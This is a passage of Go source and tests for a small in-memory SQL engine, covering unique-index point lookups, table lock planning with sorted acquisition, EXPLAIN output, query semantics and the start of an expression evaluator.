	if len(byID.Rows) != 1 || byID.Rows[0][0].S != "bob" {
		t.Fatalf("rows = %v", byID.Rows)
	}
	// Literal on the left, column on the right: same fast path.
	flipped := mustExec(t, db, "SELECT name FROM users WHERE 2 = id")
	if len(flipped.Rows) != 1 || flipped.Rows[0][0].S != "bob" {
		t.Fatalf("flipped rows = %v", flipped.Rows)
	}
	// Missing key: empty, not an error.
	missing := mustExec(t, db, "SELECT name FROM users WHERE id = 999")
	if len(missing.Rows) != 0 {
		t.Fatalf("missing rows = %v", missing.Rows)
	}
}

func TestPointLookupWeakTyping(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name FROM users WHERE id = '2'")
	if len(res.Rows) != 1 || res.Rows[0][0].S != "bob" {
		t.Fatalf("string probe through index failed: %v", res.Rows)
	}
	res = mustExec(t, db, "SELECT name FROM users WHERE id = 2.0")
	if len(res.Rows) != 1 {
		t.Fatalf("float probe through index failed: %v", res.Rows)
	}
}

func TestIndexMaintainedAcrossUpdate(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "UPDATE users SET id = 100 WHERE id = 2")
	if res := mustExec(t, db, "SELECT name FROM users WHERE id = 100"); len(res.Rows) != 1 {
		t.Fatalf("moved key not found: %v", res.Rows)
	}
	if res := mustExec(t, db, "SELECT name FROM users WHERE id = 2"); len(res.Rows) != 0 {
		t.Fatalf("old key still resolves: %v", res.Rows)
	}
	// The freed key is reusable.
	mustExec(t, db, "INSERT INTO users (id, name) VALUES (2, 'newbob')")
	if res := mustExec(t, db, "SELECT name FROM users WHERE id = 2"); res.Rows[0][0].S != "newbob" {
		t.Fatalf("reused key: %v", res.Rows)
	}
}

func TestIndexRebuiltAfterDelete(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "DELETE FROM users WHERE id = 1")
	// Positions shifted; every remaining key must still resolve to the
	// right row.
	for id, want := range map[int]string{2: "bob", 3: "cal", 4: "dee"} {
		res := mustExec(t, db, fmt.Sprintf("SELECT name FROM users WHERE id = %d", id))
		if len(res.Rows) != 1 || res.Rows[0][0].S != want {
			t.Fatalf("id %d -> %v, want %s", id, res.Rows, want)
		}
	}
	if res := mustExec(t, db, "SELECT name FROM users WHERE id = 1"); len(res.Rows) != 0 {
		t.Fatalf("deleted key still resolves: %v", res.Rows)
	}
}

func TestUniqueDuplicateViaIndexAfterChurn(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "DELETE FROM users WHERE id = 3")
	mustExec(t, db, "INSERT INTO users (id, name) VALUES (50, 'x')")
	mustExec(t, db, "UPDATE users SET id = 60 WHERE id = 50")
	_, err := db.Exec("INSERT INTO users (id, name) VALUES (60, 'dup')")
	if !errors.Is(err, ErrDuplicate) {
		t.Fatalf("err = %v, want ErrDuplicate", err)
	}
	// And the freed ids are insertable.
	mustExec(t, db, "INSERT INTO users (id, name) VALUES (3, 'back'), (50, 'again')")
}

func TestUniqueColumnAllowsMultipleNulls(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE u (email TEXT UNIQUE, n INT)")
	mustExec(t, db, "INSERT INTO u (email, n) VALUES (NULL, 1), (NULL, 2)")
	res := mustExec(t, db, "SELECT COUNT(*) FROM u WHERE email IS NULL")
	if res.Rows[0][0].I != 2 {
		t.Errorf("nulls = %v, want 2", res.Rows[0][0])
	}
	// But real values stay unique.
	mustExec(t, db, "INSERT INTO u (email, n) VALUES ('a@x', 3)")
	if _, err := db.Exec("INSERT INTO u (email, n) VALUES ('a@x', 4)"); !errors.Is(err, ErrDuplicate) {
		t.Errorf("err = %v", err)
	}
}

func TestPointLookupRespectsAliases(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT u.name FROM users u WHERE u.id = 3")
	if len(res.Rows) != 1 || res.Rows[0][0].S != "cal" {
		t.Fatalf("aliased point lookup: %v", res.Rows)
	}
	// A qualifier naming a different table must not take the fast path
	// (and, being invalid, must error like a scan would).
	if _, err := db.Exec("SELECT name FROM users WHERE other.id = 3"); err == nil {
		t.Error("wrong qualifier should fail")
	}
}

func TestPointLookupSkipsAggregates(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT COUNT(*) FROM users WHERE id = 1")
	if res.Rows[0][0].I != 1 {
		t.Fatalf("aggregate over point predicate: %v", res.Rows)
	}
	res = mustExec(t, db, "SELECT COUNT(*) FROM users WHERE id = 999")
	if res.Rows[0][0].I != 0 {
		t.Fatalf("aggregate over missing key: %v", res.Rows)
	}
}

func TestPointLookupProjectionAndLimit(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name, age FROM users WHERE id = 1 LIMIT 5")
	if len(res.Rows) != 1 || res.Rows[0][0].S != "ann" || res.Rows[0][1].I != 31 {
		t.Fatalf("rows = %v", res.Rows)
	}
	res = mustExec(t, db, "SELECT * FROM users WHERE id = 1")
	if len(res.Rows[0]) != 6 {
		t.Fatalf("star projection: %v", res.Rows)
	}
}

func TestNonUniqueColumnUsesScan(t *testing.T) {
	db := testDB(t)
	// city is not unique: must return both lisbon rows (a broken fast
	// path would return at most one).
	res := mustExec(t, db, "SELECT name FROM users WHERE city = 'lisbon' ORDER BY name")
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %v", res.Rows)
	}
}

// TestIndexScanAgreementProperty: for a battery of ids, the indexed
// point lookup and a forced scan (via an OR-true clause that disables
// the fast path) agree exactly.
func TestIndexScanAgreementProperty(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE p (id INT PRIMARY KEY, v TEXT)")
	for i := 0; i < 200; i++ {
		mustExec(t, db, fmt.Sprintf("INSERT INTO p (id, v) VALUES (%d, 'v%d')", i*3, i))
	}
	mustExec(t, db, "DELETE FROM p WHERE id % 2 = 0")
	for probe := 0; probe < 600; probe += 7 {
		fast := mustExec(t, db, fmt.Sprintf("SELECT v FROM p WHERE id = %d", probe))
		slow := mustExec(t, db, fmt.Sprintf("SELECT v FROM p WHERE id = %d AND 1 = 1", probe))
		if len(fast.Rows) != len(slow.Rows) {
			t.Fatalf("id %d: fast %d rows, scan %d rows", probe, len(fast.Rows), len(slow.Rows))
		}
		if len(fast.Rows) == 1 && fast.Rows[0][0].S != slow.Rows[0][0].S {
			t.Fatalf("id %d: fast %v, scan %v", probe, fast.Rows, slow.Rows)
		}
	}
}
