package engine

import (
	"sort"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Lock planning.
//
// The engine's concurrency is two-level: a catalog RWMutex guards the
// name → *Table map (DDL takes it exclusively; every other statement
// shares it), and each Table carries its own RWMutex guarding rows,
// indexes and the AUTO_INCREMENT counter. Before executing, a statement
// is walked once to collect every table it can touch — including tables
// reached only through subqueries in any clause — and the per-table
// locks are acquired in sorted name order (write before read for a
// table in both sets). The global order makes deadlock impossible; the
// split makes writes to one table invisible to readers of another.

// stmtTables collects the lowercase names of the tables a statement
// reads and writes. A table in both sets appears only in writes.
func stmtTables(stmt sqlparser.Statement) (reads, writes map[string]bool) {
	c := &tableCollector{reads: map[string]bool{}, writes: map[string]bool{}}
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		c.fromNames(s)
	case *sqlparser.InsertStmt:
		c.write(s.Table)
		if s.Select != nil {
			c.fromNames(s.Select)
		}
	case *sqlparser.UpdateStmt:
		c.write(s.Table)
	case *sqlparser.DeleteStmt:
		c.write(s.Table)
	case *sqlparser.DescribeStmt:
		c.read(s.Table)
	case *sqlparser.ExplainStmt:
		c.fromNames(s.Select)
		c.walkSubqueries(s.Select)
		return c.finish()
	}
	c.walkSubqueries(stmt)
	return c.finish()
}

type tableCollector struct {
	reads, writes map[string]bool
}

func (c *tableCollector) read(name string)  { c.reads[strings.ToLower(name)] = true }
func (c *tableCollector) write(name string) { c.writes[strings.ToLower(name)] = true }

// finish removes written tables from the read set: a write lock already
// grants reads.
func (c *tableCollector) finish() (map[string]bool, map[string]bool) {
	for name := range c.writes {
		delete(c.reads, name)
	}
	return c.reads, c.writes
}

// fromNames gathers the FROM tables of a select, descending into derived
// tables and UNION branches. Subqueries in expression position are found
// separately by walkSubqueries.
func (c *tableCollector) fromNames(s *sqlparser.SelectStmt) {
	for _, ref := range s.From {
		if ref.Subquery != nil {
			c.fromNames(ref.Subquery)
			continue
		}
		c.read(ref.Name)
	}
	if s.Union != nil {
		c.fromNames(s.Union.Next)
	}
}

// walkSubqueries visits every expression of the statement — WalkExprs
// descends into subqueries in all clauses at every nesting level — and
// records the FROM tables of each subquery it finds.
func (c *tableCollector) walkSubqueries(stmt sqlparser.Statement) {
	sqlparser.WalkExprs(stmt, func(e sqlparser.Expr) {
		switch x := e.(type) {
		case *sqlparser.SubqueryExpr:
			c.fromNames(x.Select)
		case *sqlparser.ExistsExpr:
			c.fromNames(x.Select)
		case *sqlparser.InExpr:
			if x.Subquery != nil {
				c.fromNames(x.Subquery)
			}
		}
	})
}

// lockTables acquires the per-table locks for one statement in global
// (sorted-name) order and returns the matching unlock. Tables named by
// the statement but absent from the catalog are skipped — execution
// reports ErrNoSuchTable itself. Callers must hold the catalog read
// lock across the acquire and the whole execution, which keeps DDL out
// while any table lock is held.
func (db *DB) lockTables(reads, writes map[string]bool) func() {
	names := make([]string, 0, len(reads)+len(writes))
	for name := range reads {
		names = append(names, name)
	}
	for name := range writes {
		names = append(names, name)
	}
	sort.Strings(names)
	unlocks := make([]func(), 0, len(names))
	for _, name := range names {
		t, ok := db.tables[name]
		if !ok {
			continue
		}
		if writes[name] {
			t.mu.Lock()
			unlocks = append(unlocks, t.mu.Unlock)
		} else {
			t.mu.RLock()
			unlocks = append(unlocks, t.mu.RUnlock)
		}
	}
	return func() {
		for i := len(unlocks) - 1; i >= 0; i-- {
			unlocks[i]()
		}
	}
}
