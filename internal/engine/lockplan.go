package engine

import (
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// Lock planning.
//
// The engine's concurrency is two-level: a catalog RWMutex guards the
// name → *Table map (DDL takes it exclusively; every other statement
// shares it), and each Table carries its own RWMutex guarding rows,
// indexes and the AUTO_INCREMENT counter. Before executing, a statement
// is walked once to collect every table it can touch — including tables
// reached only through subqueries in any clause — and the per-table
// locks are acquired in sorted name order (write before read for a
// table in both sets). The global order makes deadlock impossible; the
// split makes writes to one table invisible to readers of another.

// lockSet is one statement's table-lock plan: deduplicated lowercase
// table names with a write flag each, sorted before acquisition. The
// inline buffers cover typical statements (≤4 tables) so planning a
// point query allocates nothing; wider statements spill to the heap
// transparently via append.
type lockSet struct {
	names  []string
	writes []bool

	nameBuf  [4]string
	writeBuf [4]bool
}

func (ls *lockSet) init() {
	ls.names = ls.nameBuf[:0]
	ls.writes = ls.writeBuf[:0]
}

// add records that the statement touches name. A table both read and
// written keeps the write flag: a write lock already grants reads.
func (ls *lockSet) add(name string, write bool) {
	name = strings.ToLower(name)
	for i, n := range ls.names {
		if n == name {
			ls.writes[i] = ls.writes[i] || write
			return
		}
	}
	ls.names = append(ls.names, name)
	ls.writes = append(ls.writes, write)
}

// sort orders the plan by table name — the global acquisition order that
// makes deadlock impossible. Insertion sort: the sets are tiny.
func (ls *lockSet) sort() {
	for i := 1; i < len(ls.names); i++ {
		for j := i; j > 0 && ls.names[j] < ls.names[j-1]; j-- {
			ls.names[j], ls.names[j-1] = ls.names[j-1], ls.names[j]
			ls.writes[j], ls.writes[j-1] = ls.writes[j-1], ls.writes[j]
		}
	}
}

// collectTables fills ls with every table the statement can touch,
// including tables reached only through subqueries in any clause.
func collectTables(ls *lockSet, stmt sqlparser.Statement) {
	switch s := stmt.(type) {
	case *sqlparser.SelectStmt:
		ls.fromNames(s)
	case *sqlparser.InsertStmt:
		ls.add(s.Table, true)
		if s.Select != nil {
			ls.fromNames(s.Select)
		}
	case *sqlparser.UpdateStmt:
		ls.add(s.Table, true)
	case *sqlparser.DeleteStmt:
		ls.add(s.Table, true)
	case *sqlparser.DescribeStmt:
		ls.add(s.Table, false)
	case *sqlparser.ExplainStmt:
		ls.fromNames(s.Select)
		ls.walkSubqueries(s.Select)
		ls.sort()
		return
	}
	ls.walkSubqueries(stmt)
	ls.sort()
}

// fromNames gathers the FROM tables of a select, descending into derived
// tables and UNION branches. Subqueries in expression position are found
// separately by walkSubqueries.
func (ls *lockSet) fromNames(s *sqlparser.SelectStmt) {
	for _, ref := range s.From {
		if ref.Subquery != nil {
			ls.fromNames(ref.Subquery)
			continue
		}
		ls.add(ref.Name, false)
	}
	if s.Union != nil {
		ls.fromNames(s.Union.Next)
	}
}

// walkSubqueries visits every expression of the statement — WalkExprs
// descends into subqueries in all clauses at every nesting level — and
// records the FROM tables of each subquery it finds.
func (ls *lockSet) walkSubqueries(stmt sqlparser.Statement) {
	sqlparser.WalkExprs(stmt, func(e sqlparser.Expr) {
		switch x := e.(type) {
		case *sqlparser.SubqueryExpr:
			ls.fromNames(x.Select)
		case *sqlparser.ExistsExpr:
			ls.fromNames(x.Select)
		case *sqlparser.InExpr:
			if x.Subquery != nil {
				ls.fromNames(x.Subquery)
			}
		}
	})
}

// lockTables acquires the plan's per-table locks in global (sorted-name)
// order. Tables named by the statement but absent from the catalog are
// skipped — execution reports ErrNoSuchTable itself. Callers must hold
// the catalog read lock from before lockTables until after unlockTables,
// which keeps DDL out while any table lock is held (and keeps the name →
// *Table map stable so unlockTables resolves the same tables).
func (db *DB) lockTables(ls *lockSet) {
	for i, name := range ls.names {
		t, ok := db.tables[name]
		if !ok {
			continue
		}
		if ls.writes[i] {
			t.mu.Lock()
		} else {
			t.mu.RLock()
		}
	}
}

// unlockTables releases the plan's locks in reverse order.
func (db *DB) unlockTables(ls *lockSet) {
	for i := len(ls.names) - 1; i >= 0; i-- {
		t, ok := db.tables[ls.names[i]]
		if !ok {
			continue
		}
		if ls.writes[i] {
			t.mu.Unlock()
		} else {
			t.mu.RUnlock()
		}
	}
}
