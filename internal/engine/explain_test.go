package engine

import (
	"strings"
	"testing"
)

func explainRows(t *testing.T, db *DB, q string) []string {
	t.Helper()
	res := mustExec(t, db, q)
	out := make([]string, 0, len(res.Rows))
	for _, row := range res.Rows {
		parts := make([]string, len(row))
		for i, v := range row {
			parts[i] = v.String()
		}
		out = append(out, strings.Join(parts, " | "))
	}
	return out
}

func TestExplainPointLookup(t *testing.T) {
	db := testDB(t)
	rows := explainRows(t, db, "EXPLAIN SELECT name FROM users WHERE id = 2")
	if len(rows) != 1 || !strings.Contains(rows[0], "const") ||
		!strings.Contains(rows[0], "unique index lookup on id") {
		t.Fatalf("plan = %v", rows)
	}
}

func TestExplainFullScan(t *testing.T) {
	db := testDB(t)
	rows := explainRows(t, db, "EXPLAIN SELECT name FROM users WHERE city = 'lisbon'")
	if len(rows) != 1 || !strings.Contains(rows[0], "ALL") ||
		!strings.Contains(rows[0], "full scan (4 rows)") {
		t.Fatalf("plan = %v", rows)
	}
}

func TestExplainJoinAndAggregate(t *testing.T) {
	db := testDB(t)
	rows := explainRows(t, db, `EXPLAIN SELECT u.city, COUNT(*) FROM users u
		JOIN tickets t ON u.id = t.uid GROUP BY u.city`)
	joined := strings.Join(rows, "\n")
	for _, want := range []string{"users | ALL", "nested-loop inner join", "aggregate | grouping pass"} {
		if !strings.Contains(joined, want) {
			t.Errorf("plan missing %q:\n%s", want, joined)
		}
	}
}

func TestExplainDerivedAndUnion(t *testing.T) {
	db := testDB(t)
	rows := explainRows(t, db, `EXPLAIN SELECT n FROM (SELECT name AS n FROM users) AS sub
		UNION SELECT msg FROM logs`)
	joined := strings.Join(rows, "\n")
	for _, want := range []string{"sub | derived", "union | result merge", "logs | ALL"} {
		if !strings.Contains(joined, want) {
			t.Errorf("plan missing %q:\n%s", want, joined)
		}
	}
}

func TestExplainValidatesTables(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("EXPLAIN SELECT * FROM missing"); err == nil {
		t.Error("EXPLAIN of a missing table must fail validation")
	}
}

func TestExplainDoesNotExecute(t *testing.T) {
	db := testDB(t)
	before := mustExec(t, db, "SELECT COUNT(*) FROM logs").Rows[0][0].I
	// EXPLAIN of a SELECT never touches data (trivially true), and the
	// statement itself goes through the ordinary hook pipeline.
	mustExec(t, db, "EXPLAIN SELECT * FROM logs")
	after := mustExec(t, db, "SELECT COUNT(*) FROM logs").Rows[0][0].I
	if before != after {
		t.Error("EXPLAIN changed data")
	}
}
