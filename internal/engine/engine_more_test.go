package engine

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

func TestGroupByMultipleColumns(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "INSERT INTO users (name, age, city, vip) VALUES ('eli', 31, 'lisbon', TRUE)")
	res := mustExec(t, db, `SELECT city, vip, COUNT(*) FROM users
		WHERE age IS NOT NULL GROUP BY city, vip ORDER BY city, vip`)
	// lisbon/false(cal), lisbon/true(ann,eli), porto/false(bob)
	if len(res.Rows) != 3 {
		t.Fatalf("rows = %v", res.Rows)
	}
	var lisbonVIP int64
	for _, row := range res.Rows {
		if row[0].S == "lisbon" && row[1].AsBool() {
			lisbonVIP = row[2].I
		}
	}
	if lisbonVIP != 2 {
		t.Errorf("lisbon vip count = %d, want 2", lisbonVIP)
	}
}

func TestOrderByMultipleKeysMixedDirections(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT city, name FROM users ORDER BY city ASC, name DESC`)
	// faro:dee, lisbon:cal, lisbon:ann, porto:bob
	want := [][2]string{{"faro", "dee"}, {"lisbon", "cal"}, {"lisbon", "ann"}, {"porto", "bob"}}
	for i, w := range want {
		if res.Rows[i][0].S != w[0] || res.Rows[i][1].S != w[1] {
			t.Fatalf("row %d = %v, want %v", i, res.Rows[i], w)
		}
	}
}

func TestInsertSelect(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "CREATE TABLE vips (name TEXT, age INT)")
	res := mustExec(t, db, "INSERT INTO vips (name, age) SELECT name, age FROM users WHERE vip = TRUE")
	if res.Affected != 2 {
		t.Fatalf("affected = %d, want 2", res.Affected)
	}
	check := mustExec(t, db, "SELECT COUNT(*) FROM vips")
	if check.Rows[0][0].I != 2 {
		t.Errorf("count = %v", check.Rows[0][0])
	}
}

func TestUpdateWithScalarSubquery(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "UPDATE users SET age = (SELECT MAX(ts) FROM logs) WHERE name = 'ann'")
	res := mustExec(t, db, "SELECT age FROM users WHERE name = 'ann'")
	if res.Rows[0][0].I != 30 {
		t.Errorf("age = %v, want 30 (max log ts)", res.Rows[0][0])
	}
}

func TestDeleteWithInSubquery(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `DELETE FROM tickets WHERE uid IN
		(SELECT id FROM users WHERE vip = TRUE)`)
	if res.Affected != 2 {
		t.Errorf("affected = %d, want 2", res.Affected)
	}
}

func TestLikeEscapedWildcards(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, `INSERT INTO logs (ts, msg) VALUES (99, '100%')`)
	res := mustExec(t, db, `SELECT msg FROM logs WHERE msg LIKE '100\%'`)
	if len(res.Rows) != 1 {
		t.Fatalf("escaped %% did not match literally: %v", res.Rows)
	}
	// Unescaped % would also match "100x".
	mustExec(t, db, `INSERT INTO logs (ts, msg) VALUES (98, '100x')`)
	res = mustExec(t, db, `SELECT COUNT(*) FROM logs WHERE msg LIKE '100%'`)
	if res.Rows[0][0].I != 2 {
		t.Errorf("unescaped match count = %v, want 2", res.Rows[0][0])
	}
	res = mustExec(t, db, `SELECT COUNT(*) FROM logs WHERE msg LIKE '100\%'`)
	if res.Rows[0][0].I != 1 {
		t.Errorf("escaped match count = %v, want 1", res.Rows[0][0])
	}
}

func TestStringFunctionsPropagateNull(t *testing.T) {
	db := testDB(t)
	for _, q := range []string{
		"SELECT CONCAT('a', NULL)",
		"SELECT UPPER(NULL)",
		"SELECT LENGTH(NULL)",
	} {
		res := mustExec(t, db, q)
		if !res.Rows[0][0].IsNull() {
			t.Errorf("%s = %v, want NULL", q, res.Rows[0][0])
		}
	}
}

func TestScalarSubqueryMultiRowFails(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("SELECT (SELECT id FROM users) FROM logs"); err == nil {
		t.Error("multi-row scalar subquery must fail")
	}
}

func TestOrderByOrdinalOutOfRange(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("SELECT name FROM users ORDER BY 5"); err == nil {
		t.Error("out-of-range ordinal must fail")
	}
}

func TestExecArgsInLimit(t *testing.T) {
	db := testDB(t)
	res, err := db.ExecArgs("SELECT id FROM logs ORDER BY ts LIMIT ?", Int(2))
	if err != nil {
		t.Fatalf("ExecArgs: %v", err)
	}
	if len(res.Rows) != 2 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestUpdateToNullNotCountedWhenAlreadyNull(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "UPDATE users SET age = NULL WHERE name = 'dee'")
	if res.Affected != 0 {
		t.Errorf("affected = %d, want 0 (NULL -> NULL)", res.Affected)
	}
}

func TestKeywordishColumnNames(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE kv (`key` TEXT, `datetime` TEXT)")
	mustExec(t, db, "INSERT INTO kv (`key`, `datetime`) VALUES ('k1', 'now')")
	res := mustExec(t, db, "SELECT `key` FROM kv WHERE `datetime` = 'now'")
	if len(res.Rows) != 1 || res.Rows[0][0].S != "k1" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestSelfJoinWithAliases(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT a.name, b.name FROM users a
		JOIN users b ON a.city = b.city AND a.id < b.id ORDER BY a.name`)
	if len(res.Rows) != 1 || res.Rows[0][0].S != "ann" || res.Rows[0][1].S != "cal" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestUnknownFunctionFails(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("SELECT FROBNICATE(1)"); err == nil {
		t.Error("unknown function must fail")
	}
}

func TestFunctionArityErrors(t *testing.T) {
	db := testDB(t)
	bad := []string{
		"SELECT LOWER()",
		"SELECT LOWER('a', 'b')",
		"SELECT REPLACE('a', 'b')",
		"SELECT SUBSTRING('a')",
		"SELECT IF(1, 2)",
		"SELECT MOD(1)",
	}
	for _, q := range bad {
		if _, err := db.Exec(q); err == nil {
			t.Errorf("%s must fail", q)
		}
	}
}

func TestAggregateMixedWithStarFails(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("SELECT *, COUNT(*) FROM users"); err == nil {
		t.Error("* mixed with aggregates must fail")
	}
}

func TestDerivedTableColumnScoping(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT sub.n FROM
		(SELECT city, COUNT(*) AS n FROM users GROUP BY city) AS sub
		WHERE sub.city = 'lisbon'`)
	if len(res.Rows) != 1 || res.Rows[0][0].I != 2 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestBetweenStringRange(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name FROM users WHERE name BETWEEN 'a' AND 'c' ORDER BY name")
	if len(res.Rows) != 2 { // ann, bob ("cal" > "c")
		t.Errorf("rows = %v", res.Rows)
	}
}

// TestInsertSelectRoundTripProperty: any ASCII value written through
// ExecArgs must come back byte-identical through a SELECT — the engine
// must not re-interpret stored data.
func TestStoreRoundTripProperty(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE rt (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)")
	id := int64(0)
	f := func(s string) bool {
		ascii := make([]byte, 0, len(s))
		for _, r := range s {
			if r >= 0x20 && r < 0x7f {
				ascii = append(ascii, byte(r))
			}
		}
		v := string(ascii)
		res, err := db.ExecArgs("INSERT INTO rt (v) VALUES (?)", Str(v))
		if err != nil {
			return false
		}
		id = res.LastInsertID
		got, err := db.ExecArgs("SELECT v FROM rt WHERE id = ?", Int(id))
		if err != nil || len(got.Rows) != 1 {
			return false
		}
		return got.Rows[0][0].S == v
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// TestEscapedLiteralRoundTripProperty: the same property through the
// text path — escape, embed, parse, store, read.
func TestEscapedLiteralRoundTripProperty(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE rt (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)")
	f := func(s string) bool {
		ascii := make([]byte, 0, len(s))
		for _, r := range s {
			if r >= 0x20 && r < 0x7f {
				ascii = append(ascii, byte(r))
			}
		}
		v := string(ascii)
		escaped := escapeForTest(v)
		res, err := db.Exec("INSERT INTO rt (v) VALUES ('" + escaped + "')")
		if err != nil {
			return false
		}
		got, err := db.ExecArgs("SELECT v FROM rt WHERE id = ?", Int(res.LastInsertID))
		if err != nil || len(got.Rows) != 1 {
			return false
		}
		return got.Rows[0][0].S == v
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// escapeForTest mirrors mysql_real_escape_string for the property test.
func escapeForTest(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `'`, `\'`, `"`, `\"`)
	return r.Replace(s)
}

func TestCreateTableDuplicateColumn(t *testing.T) {
	db := New()
	if _, err := db.Exec("CREATE TABLE t (a INT, a TEXT)"); err == nil {
		t.Error("duplicate column must fail")
	}
}

func TestCreateTableIfNotExistsIdempotent(t *testing.T) {
	db := New()
	mustExec(t, db, "CREATE TABLE t (a INT)")
	mustExec(t, db, "CREATE TABLE IF NOT EXISTS t (a INT)")
	if _, err := db.Exec("CREATE TABLE t (a INT)"); !errors.Is(err, ErrTableExists) {
		t.Errorf("err = %v", err)
	}
}

func TestHookErrorNotWrappedAsBlocked(t *testing.T) {
	hook := &blockingHook{filter: nil}
	db := New(WithQueryHook(hook))
	mustExec(t, db, "CREATE TABLE t (a INT)")
	hook.filter = func(*HookContext) bool { return false }
	// A hook returning a non-blocked error aborts without counting as a
	// security block.
	failing := &failingHook{}
	db.SetHook(failing)
	_, err := db.Exec("SELECT * FROM t")
	if err == nil || errors.Is(err, ErrQueryBlocked) {
		t.Errorf("err = %v, want plain failure", err)
	}
	stats := db.Stats()
	if stats.Blocked != 0 {
		t.Errorf("blocked = %d, want 0", stats.Blocked)
	}
}

type failingHook struct{}

func (failingHook) BeforeExecute(*HookContext) error {
	return errors.New("hook infrastructure failure")
}
