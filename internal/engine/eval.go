package engine

import (
	"crypto/md5"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"math"
	"strings"

	"github.com/septic-db/septic/internal/sqlparser"
)

// scope resolves column references during evaluation. Scopes chain so
// correlated subqueries can see their enclosing query's row.
type scope struct {
	parent *scope
	// tables[i] names the source (alias if given, else table name,
	// lower-cased) of the columns in colNames[i].
	tables   []string
	colNames [][]string
	row      []Value
	// offsets[i] is the index in row where table i's columns begin.
	offsets []int
}

func newScope(parent *scope) *scope {
	return &scope{parent: parent}
}

// addSource appends a table's columns to the scope layout.
func (sc *scope) addSource(name string, cols []string) {
	sc.tables = append(sc.tables, strings.ToLower(name))
	sc.colNames = append(sc.colNames, cols)
	if len(sc.offsets) == 0 {
		sc.offsets = append(sc.offsets, 0)
	} else {
		last := len(sc.offsets) - 1
		sc.offsets = append(sc.offsets, sc.offsets[last]+len(sc.colNames[last]))
	}
}

// width returns the total number of columns in the scope.
func (sc *scope) width() int {
	if len(sc.offsets) == 0 {
		return 0
	}
	last := len(sc.offsets) - 1
	return sc.offsets[last] + len(sc.colNames[last])
}

// lookup resolves a column reference to its index in row, walking parent
// scopes for correlated subqueries. The boolean reports success.
func (sc *scope) lookup(table, name string) (*scope, int, bool) {
	table = strings.ToLower(table)
	for s := sc; s != nil; s = s.parent {
		for ti, tname := range s.tables {
			if table != "" && table != tname {
				continue
			}
			for ci, cname := range s.colNames[ti] {
				if strings.EqualFold(cname, name) {
					return s, s.offsets[ti] + ci, true
				}
			}
		}
	}
	return nil, 0, false
}

// evaluator computes expression values for one database.
type evaluator struct {
	db *DB
}

func (ev *evaluator) eval(e sqlparser.Expr, sc *scope) (Value, error) {
	switch x := e.(type) {
	case *sqlparser.Literal:
		return literalValue(x), nil
	case *sqlparser.ColumnRef:
		s, idx, ok := sc.lookup(x.Table, x.Name)
		if !ok {
			return Value{}, fmt.Errorf("%w: %s", ErrNoSuchColumn, formatColRef(x))
		}
		return s.row[idx], nil
	case *sqlparser.BinaryExpr:
		return ev.evalBinary(x, sc)
	case *sqlparser.UnaryExpr:
		return ev.evalUnary(x, sc)
	case *sqlparser.FuncCall:
		return ev.evalFunc(x, sc)
	case *sqlparser.InExpr:
		return ev.evalIn(x, sc)
	case *sqlparser.BetweenExpr:
		return ev.evalBetween(x, sc)
	case *sqlparser.IsNullExpr:
		v, err := ev.eval(x.Expr, sc)
		if err != nil {
			return Value{}, err
		}
		res := v.IsNull()
		if x.Not {
			res = !res
		}
		return Bool(res), nil
	case *sqlparser.SubqueryExpr:
		rows, err := ev.subqueryRows(x.Select, sc)
		if err != nil {
			return Value{}, err
		}
		if len(rows) == 0 {
			return Null(), nil
		}
		if len(rows) > 1 {
			return Value{}, fmt.Errorf("scalar subquery returned %d rows", len(rows))
		}
		if len(rows[0]) != 1 {
			return Value{}, fmt.Errorf("scalar subquery returned %d columns", len(rows[0]))
		}
		return rows[0][0], nil
	case *sqlparser.ExistsExpr:
		rows, err := ev.subqueryRows(x.Select, sc)
		if err != nil {
			return Value{}, err
		}
		found := len(rows) > 0
		if x.Not {
			found = !found
		}
		return Bool(found), nil
	case *sqlparser.Placeholder:
		return Value{}, fmt.Errorf("unbound placeholder: use ExecArgs")
	case *sqlparser.CaseExpr:
		return ev.evalCase(x, sc)
	default:
		return Value{}, fmt.Errorf("unsupported expression %T", e)
	}
}

// evalCase implements both CASE forms with MySQL semantics: the operand
// form compares with =, the searched form evaluates each condition as a
